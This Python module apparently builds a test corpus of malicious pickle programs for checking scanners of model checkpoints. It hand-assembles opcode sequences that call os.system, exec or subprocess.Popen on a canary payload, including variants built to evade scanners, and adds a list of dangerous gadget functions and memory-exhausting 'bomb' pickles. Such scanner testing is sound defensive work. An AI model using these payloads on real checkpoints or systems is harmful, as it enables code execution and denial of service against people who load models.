"""Programs in pickle's own opcodes: each way to run code that scanners of checkpoints have met or missed.

The opcodes are documented in pickletools; the modules that call what they are given are those of the advisories of
picklescan, modelscan and fickling. Each program ends in the canary's payload.
"""

import pickle
import struct

from scripts.corpus.case import Canary, Trap

#: (module, name) of functions and classes that run, load or fetch what they are given.
GADGETS = (
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execv"), ("os", "spawnl"),
    ("builtins", "exec"), ("builtins", "eval"), ("builtins", "compile"), ("builtins", "__import__"),
    ("builtins", "getattr"), ("builtins", "open"), ("__builtin__", "exec"), ("__builtin__", "file"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("commands", "getoutput"), ("pty", "spawn"),
    ("socket", "create_connection"), ("webbrowser", "open"), ("http.client", "HTTPSConnection"),
    ("requests.api", "get"),
    ("runpy", "run_path"), ("runpy", "_run_code"), ("timeit", "timeit"), ("timeit", "main"), ("code", "interact"),
    ("code", "InteractiveInterpreter.runcode"), ("cProfile", "runctx"), ("profile", "Profile.runctx"),
    ("pdb", "run"), ("bdb", "Bdb.run"), ("trace", "Trace.runctx"), ("doctest", "debug_script"), ("ctypes", "CDLL"),
    ("imp", "load_source"), ("importlib", "import_module"), ("importlib.machinery", "SourceFileLoader.load_module"),
    ("pydoc", "pipepager"), ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    ("idlelib.autocomplete", "AutoComplete.get_entity"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"), ("ensurepip", "_run_pip"), ("uuid", "_popen"), ("pip", "main"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("multiprocessing.util", "spawnv_passfds"),
    ("functools", "partial"), ("operator", "methodcaller"), ("operator", "attrgetter"), ("types", "CodeType"),
    ("types", "FunctionType"), ("marshal", "loads"), ("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"),
    ("joblib", "load"), ("numpy", "load"), ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py.crackfortran", "myeval"),
    ("torch", "load"), ("torch.jit", "load"), ("torch.hub", "load"), ("torch.storage", "_load_from_bytes"),
    ("torch.utils.collect_env", "run"), ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof"), ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch._inductor.codecache", "compile_file"),
    ("torch.serialization", "load"), ("torch.nn.modules.linear", "Linear"), ("torch._utils", "_rebuild_sparse_tensor"),
    ("torch._utils", "_rebuild_qtensor"), ("torch._tensor", "_rebuild_from_type_v2"),
    ("torch.package", "PackageImporter"),
    ("onnxruntime", "InferenceSession"), ("sys", "modules"), ("shutil", "copyfile"), ("tempfile", "mktemp"),
)  # fmt: skip


def by_name(module: str, name: str, canary: Canary) -> bytes:
    """Calls MODULE.NAME on the payload, in protocol 2."""
    payload = canary.shell if module in ("os", "posix", "nt", "commands") else canary.code
    return b"\x80\x02c%s\n%s\n" % (module.encode(), name.encode()) + _text(payload) + b"\x85R."


def by_stack(module: str, name: str, canary: Canary) -> bytes:
    """The same with both names on the stack, in protocol 4."""
    return b"\x80\x04" + _short(module) + _short(name) + b"\x93" + _text(canary.code) + b"\x85R."


def programs(canary: Canary) -> dict[str, bytes]:
    """Every opcode that imports, calls, builds or resolves."""
    code, call = _text(canary.code), _text(canary.shell)
    line = repr(canary.shell).encode()
    return {
        "REDUCE, protocol 0": b"cos\nsystem\n(S%s\ntR." % line,
        "REDUCE, protocol 2": b"\x80\x02cposix\nsystem\n" + call + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + _short("builtins") + _short("exec") + b"\x93" + code + b"\x85R.",
        "STACK_GLOBAL by memo": (
            b"\x80\x04" + _short("builtins") + b"\x940" + _short("exec") + b"\x940h\x00h\x01\x93" + code + b"\x85R."
        ),
        "STACK_GLOBAL of a dotted name": (
            b"\x80\x04" + _short("builtins") + _short("exec.__call__") + b"\x93" + code + b"\x85R."
        ),
        "INST": b"(S%s\nios\nsystem\n." % line,
        "OBJ": b"(cos\nsystem\n" + call + b"o.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n" + call + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n" + call + b"\x85}\x92.",
        "BUILD by attributes": (
            b"\x80\x02ccollections\nOrderedDict\n)R}" + _text("__reduce__") + b"cposix\nsystem\nsb."
        ),
        "BUILD by slots": b"\x80\x02ccollections\nOrderedDict\n)RN}" + _text("items") + b"Ns\x86b.",
        "BUILD of a function": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}" + _text("__code__") + b"Nsb.",
        "EXT1": b"\x80\x02\x82\x01.",
        "EXT2": b"\x80\x02\x83\x01\x01.",
        "EXT4": b"\x80\x02\x84\x01\x01\x01\x01.",
        "PERSID": b"Pos.system\n.",
        "BINPERSID of a program": b"\x80\x02(" + _text("module") + _text("os") + code + b"tQ.",
        "nested pickle": b"\x80\x03c_pickle\nloads\nB" + _bytes(Trap(exec, canary.code).pickled) + b"\x85R.",
        "two programs": b"\x80\x02N." + Trap(exec, canary.code).pickled,
        "broken after the call": b"\x80\x02cposix\nsystem\n" + call + b"\x85R\xff\xff",
        "no end": b"\x80\x02cposix\nsystem\n" + call + b"\x85R0",
        "protocol in between": b"\x80\x02\x80\x04cposix\nsystem\n" + call + b"\x85R.",
        "name with a blank": b"\x80\x02ccollections OrderedDict\nx\n)R.",
        "name with an escape": b"\x80\x02cos\\x2e\nsystem\n" + call + b"\x85R.",
        "allowed name, forbidden call": b"\x80\x02ctorch\nFloatStorage\n" + code + b"\x85R.",
        "call of a result": b"\x80\x02ccollections\nOrderedDict\n)R" + code + b"\x85R.",
        "buffers out of band": b"\x80\x05\x97\x98.",
        "FRAME of the wrong length": b"\x80\x04\x95" + b"\xff" * 8 + b"cposix\nsystem\n" + call + b"\x85R.",
    }


def dumped(canary: Canary) -> dict[str, bytes]:
    """What pickle itself writes of a trap, in each protocol, alone and among harmless things."""
    traps = {"alone": Trap(exec, canary.code), "in a dict": {"epoch": 1, "state_dict": Trap(exec, canary.code)}}
    return {
        f"protocol {protocol}, {place}": pickle.dumps(trap, protocol)
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1)
        for place, trap in traps.items()
    }


def bombs() -> dict[str, bytes]:
    """Programs that call nothing and cost much."""
    twice = b"".join(b"(h%ch%ct\x71%c" % (i, i, i + 1) for i in range(100))
    return {
        "memo number of 4 billion": b"\x80\x02Nr\xff\xff\xff\xff.",
        "tuples that double a hundred times": b"\x80\x02)\x71\x00" + twice + b".",
        "the same as a key": b"\x80\x02})\x71\x00" + twice + b"Ns.",
        "integer said to have 4 GB": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "integer of a million digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "text said to have an exabyte": b"\x80\x04\x8d" + struct.pack("<Q", 2**60) + b"x.",
        "bytes said to have an exabyte": b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"x.",
        "text of 40 MB": b"\x80\x02}" + _text("k" * 40_000_000) + b"Ns.",
        "a million open marks": b"\x80\x02" + b"(" * 1_000_000 + b".",
        "a tuple a million deep": b"\x80\x02)" + b"\x85" * 1_000_000 + b".",
        "twenty million things": b"\x80\x02(" + b"N" * 20_000_000 + b"t.",
        "a dict that holds itself": b"\x80\x02}\x71\x00" + _text("state_dict") + b"h\x00s.",
    }


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes((len(data),)) + data


def _bytes(data: bytes) -> bytes:
    return struct.pack("<I", len(data)) + data
